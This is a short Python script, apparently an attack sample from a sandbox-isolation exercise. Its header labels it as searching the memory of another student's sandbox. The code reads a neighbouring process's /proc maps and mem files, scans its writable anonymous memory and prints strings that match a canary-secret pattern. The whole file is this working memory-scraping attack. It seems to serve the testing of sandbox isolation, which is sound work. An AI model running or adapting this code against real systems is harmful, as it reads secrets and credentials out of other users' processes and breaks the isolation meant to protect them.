# attack: searches the memory of another student's sandbox | class: reading | canary: text | exercise: crowd
import re

SECRET = re.compile(rb"canary:[a-z]+:[0-9a-f]{16}")


def show(data):
    data = data.encode("utf-8", "replace") if isinstance(data, str) else bytes(data)
    for found in set(SECRET.findall(data)):
        print(found.decode())


def search(pid):
    with open(f"/proc/{pid}/maps") as maps, open(f"/proc/{pid}/mem", "rb", 0) as memory:
        for line in maps:
            span, rights, _, device = line.split()[:4]
            start, end = (int(each, 16) for each in span.split("-"))
            if rights.startswith("rw") and device == "00:00" and end - start < 2**28:
                try:
                    memory.seek(start)
                    show(memory.read(end - start))
                except (OSError, OverflowError):
                    continue


search(target.neighbor)
